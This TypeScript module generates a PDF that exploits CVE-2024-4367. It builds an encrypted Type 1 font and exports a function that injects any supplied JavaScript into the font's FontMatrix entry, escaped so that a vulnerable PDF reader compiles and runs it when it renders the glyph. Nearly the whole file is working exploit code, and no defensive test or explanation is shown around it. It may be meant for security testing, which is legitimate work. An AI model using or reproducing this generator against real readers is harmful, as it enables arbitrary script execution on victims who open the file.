/**
 * Encryption of Type 1 fonts: of the private part (key 55665), or of the drawing of a glyph (key
 * 4330).
 */
function encrypt(plain: Buffer, key: number): Buffer {
  let state = key;
  return Buffer.from(
    [0, 0, 0, 0, ...plain].map((byte) => {
      const cipher = byte ^ (state >> 8);
      state = ((cipher + state) * 52_845 + 22_719) & 0xffff;
      return cipher;
    }),
  );
}

/** Glyphs by name, with their drawings: a width of 500, and a square for the second one. */
const GLYPHS: [string, number[]][] = [
  [".notdef", [139, 248, 136, 13, 14]],
  ["B", [139, 248, 136, 13, 239, 239, 21, 239, 6, 239, 7, 9, 14]],
];

const glyph = ([name, drawing]: [string, number[]]): Buffer => {
  const encrypted = encrypt(Buffer.from(drawing), 4330);
  return Buffer.concat([
    Buffer.from(`/${name} ${encrypted.length} RD `),
    encrypted,
    Buffer.from(" ND\n"),
  ]);
};

const OPEN = `%!PS-AdobeFont-1.0: Piege
/FontName /Piege def
/FontType 1 def
/Encoding 256 array 0 1 255 {1 index exch /.notdef put} for
dup 66 /B put
readonly def
/FontBBox {0 0 1000 1000} readonly def
currentfile eexec
`;
const PRIVATE = Buffer.concat([
  Buffer.from(
    "dup /Private 8 dict dup begin\n/RD {string currentfile exch readstring pop} executeonly def\n/ND {noaccess def} executeonly def\n/NP {noaccess put} executeonly def\n/BlueValues [] def\n/lenIV 4 def\n2 index /CharStrings 2 dict dup begin\n",
  ),
  ...GLYPHS.map(glyph),
  Buffer.from(
    "end\nend\nreadonly put\nnoaccess put\ndup /FontName get exch definefont pop\nmark currentfile closefile\n",
  ),
]);

/**
 * CVE-2024-4367: a document with a valid font of one glyph, whose matrix contains this script and
 * runs once compiled as JavaScript. The text is filled and stroked, so that the reader draws the
 * glyph itself.
 */
export function fontPdf(script: string): Buffer {
  const secret = encrypt(PRIVATE, 55_665);
  const matrix = `0.001 0 0 0.001 0 (1\\); ${script}; \\(1)`;
  const text = "BT /F1 24 Tf 2 Tr 20 40 Td (BBB) Tj ET";
  const head = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 8 0 R/Resources<</Font<</F1 6 0 R>>>>>>endobj
6 0 obj<</Type/Font/Subtype/Type1/BaseFont/Piege/FirstChar 66/LastChar 66/Widths[500]/FontMatrix[${matrix}]/FontDescriptor 7 0 R>>endobj
7 0 obj<</Type/FontDescriptor/FontName/Piege/Flags 4/FontBBox[0 0 1000 1000]/ItalicAngle 0/Ascent 1000/Descent 0/CapHeight 1000/StemV 80/FontFile 9 0 R>>endobj
8 0 obj<</Length ${text.length}>>stream
${text}
endstream endobj
9 0 obj<</Length ${OPEN.length + secret.length}/Length1 ${OPEN.length}/Length2 ${secret.length}/Length3 0>>stream
${OPEN}`;
  return Buffer.concat([
    Buffer.from(head),
    secret,
    Buffer.from("\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
  ]);
}
